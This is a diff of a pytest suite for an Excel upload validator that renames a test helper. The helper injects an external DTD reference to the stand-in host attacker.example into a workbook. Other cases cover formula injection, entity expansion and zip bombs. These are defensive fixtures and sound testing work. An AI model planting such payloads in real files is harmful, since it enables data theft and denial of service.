@@ -114,7 +114,7 @@ def _laughs(data):
     return rewrite(data, "xl/worksheets/sheet2.xml", change)
 
 
-def _dtd_in_strings(data):
+def _dtd_in_content_types(data):
     return rewrite(data, "[Content_Types].xml", lambda part: part.replace(
         b"<Types", b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><Types', 1))
 
@@ -163,7 +163,7 @@ def _wrong_totals(data):
 
 
 @pytest.mark.parametrize("hostile, reason", [
-    (_formula, "FORMULA"), (_error_value, "FORMULA"), (_laughs, "UNSAFE_WORKBOOK"), (_dtd_in_strings, "UNSAFE_WORKBOOK"),
+    (_formula, "FORMULA"), (_error_value, "FORMULA"), (_laughs, "UNSAFE_WORKBOOK"), (_dtd_in_content_types, "UNSAFE_WORKBOOK"),
     (_zip_bomb, "UNSAFE_WORKBOOK"), (_wide_row, "TOO_MANY_ROWS"), (_not_a_workbook, "NOT_EXCEL"),
     (_text_named_xlsx, "NOT_EXCEL"), (_old_binary_xls, "NOT_EXCEL"), (_zip_without_sheets, "NOT_EXCEL"),
     (_other_layout, "BAD_LAYOUT"),
